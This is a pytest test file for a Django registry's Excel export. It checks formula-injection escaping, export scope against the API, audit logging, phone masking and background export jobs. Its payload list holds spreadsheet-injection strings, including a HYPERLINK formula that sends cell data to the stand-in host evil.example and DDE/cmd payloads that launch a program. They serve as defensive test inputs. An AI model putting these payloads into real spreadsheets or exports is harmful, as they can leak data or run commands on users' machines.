"""Excel export of the registry: formula injection (EXP-01), scope == API scope (EXP-02), audit (EXP-03), jobs."""

import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from apps.common.models import AuditEvent, Job
from apps.enterprises import views as enterprise_views
from apps.enterprises.exports import ExportColumn, safe_text, write_workbook
from apps.enterprises.models import BusinessType
from tests.factories import EnterpriseFactory, LicenceFactory

EXPORT = reverse("enterprises:export")
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "+1+1",
    "-1-1",
]
TEXT_FIELDS = ("name", "legal_representative", "contact_person", "registered_address", "business_address")


def browser(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def sheet(response):
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    wb = load_workbook(io.BytesIO(b"".join(response.streaming_content) if response.streaming else response.content))
    return wb


def data_rows(wb):
    ws = wb["检查对象"]
    rows = list(ws.iter_rows())
    return rows[0], rows[1:]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_text_neutralises_every_payload(payload):
    assert safe_text(payload).startswith("'")
    assert safe_text("海宁市硖石张记面馆") == "海宁市硖石张记面馆"


def test_exported_payloads_are_never_formulas(staff_a, township_a):
    for payload in PAYLOADS:  # through the ORM: the services would already strip leading whitespace
        EnterpriseFactory(
            township=township_a, **{field: payload for field in TEXT_FIELDS}, third_party_evaluator=payload
        )
    wb = sheet(browser(staff_a).get(EXPORT))
    header, rows = data_rows(wb)
    assert len(rows) == len(PAYLOADS)
    formula_cells = [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formula_cells == []
    names = {c.value for c in header}
    name_col = [c.value for c in header].index("名称")
    exported = sorted(row[name_col].value for row in rows)
    # XML turns a stored CR into LF on reading; the apostrophe is what matters
    assert exported == sorted("'" + p.replace("\r", "\n") for p in PAYLOADS)
    assert {"统一社会信用代码", "所属镇街", "有效证照"} <= names


def test_write_workbook_keeps_numbers_and_dates_typed():
    import datetime as dt

    content, count = write_workbook(
        sheet_title="t",
        columns=[ExportColumn("a"), ExportColumn("n", kind="number"), ExportColumn("d", kind="date")],
        rows=[("=x", 3, dt.date(2025, 1, 2))],
        about={"导出人": "测试"},
    )
    ws = load_workbook(io.BytesIO(content))["t"]
    cells = list(ws.iter_rows(min_row=2))[0]
    assert count == 1 and cells[0].value == "'=x" and cells[1].value == 3 and cells[2].is_date


def _api_ids(user, params):
    from rest_framework.test import APIClient

    api = APIClient()
    api.force_authenticate(user)
    response = api.get("/api/v1/enterprises/", {**params, "page_size": 100})
    assert response.status_code == 200, response.json()
    return sorted(row["uscc"] for row in response.json()["results"])


def _export_ids(user, params):
    _, rows = data_rows(sheet(browser(user).get(EXPORT, params)))
    return sorted(row[0].value for row in rows)


@pytest.mark.parametrize(
    "params",
    [
        {},
        {"status": "operating"},
        {"business_type__code": "canteen"},
        {"sunshine_kitchen": "true"},
        {"q": "便民"},
        {"licence_expires_within": "60"},
        {"township__code": "xucun"},
    ],
)
def test_export_scope_equals_api_scope(params, staff_a, city_staff, township_a, township_b):
    school = BusinessType.objects.get(code="school_canteen")
    for township in (township_a, township_b):
        EnterpriseFactory(township=township, business_type=school, sunshine_kitchen=True)
        EnterpriseFactory(township=township, name=f"海宁市{township.name}便民超市")
        EnterpriseFactory(township=township, cancelled=True)
        LicenceFactory(enterprise=EnterpriseFactory(township=township))
    for user in (staff_a, city_staff):
        assert _export_ids(user, params) == _api_ids(user, params)


def test_export_is_audited_with_filters_and_count(staff_a, township_a):
    for _ in range(3):
        EnterpriseFactory(township=township_a)
    wb = sheet(browser(staff_a).get(EXPORT, {"status": "operating", "q": "测试"}))
    [event] = AuditEvent.objects.filter(action="enterprise.export")
    assert event.actor_id == staff_a.pk
    assert event.extra["rows"] == 3
    assert event.extra["filters"] == {"status": "operating", "q": "测试"}
    about = {row[0].value: row[1].value for row in wb["导出说明"].iter_rows()}
    assert "staff_a" in about["导出人"] and about["导出行数"] == "3"
    assert "status=operating" in about["筛选条件"]


def test_phone_is_masked_in_exports_without_the_permission(leader, staff_a, township_a):
    EnterpriseFactory(township=township_a, contact_phone="13812345678")
    from django.contrib.auth.models import Permission

    leader.user_permissions.add(Permission.objects.get(codename="export_enterprise"))
    leader = type(leader).objects.get(pk=leader.pk)
    header, rows = data_rows(sheet(browser(leader).get(EXPORT)))
    phone_col = [c.value for c in header].index("联系电话")
    assert rows[0][phone_col].value == "138****5678"
    header, rows = data_rows(sheet(browser(staff_a).get(EXPORT)))
    assert rows[0][phone_col].value == "13812345678"


def test_large_export_runs_as_a_job_only_its_creator_can_download(
    monkeypatch, staff_a, user_factory, township_a, settings, tmp_path, django_capture_on_commit_callbacks
):
    settings.MEDIA_ROOT = str(tmp_path)
    monkeypatch.setattr(enterprise_views.EnterpriseExportView, "sync_max_rows", 2)
    for _ in range(3):
        EnterpriseFactory(township=township_a)
    with django_capture_on_commit_callbacks(execute=True):  # the job is published on commit (eager Celery)
        response = browser(staff_a).get(EXPORT)
    job = Job.objects.get(kind="enterprises.export")
    assert response.status_code == 302 and response["Location"] == reverse("jobs:detail", args=[job.pk])
    job.refresh_from_db()
    assert job.status == "done", job.error
    assert job.result["rows"] == 3
    download = browser(staff_a).get(job.result["next_url"])
    _, rows = data_rows(sheet(download))
    assert len(rows) == 3
    other = user_factory("staff_a2", "township_staff", [township_a])
    assert browser(other).get(job.result["next_url"]).status_code == 404
    assert AuditEvent.objects.filter(action="enterprise.export", extra__job=str(job.pk)).count() == 1
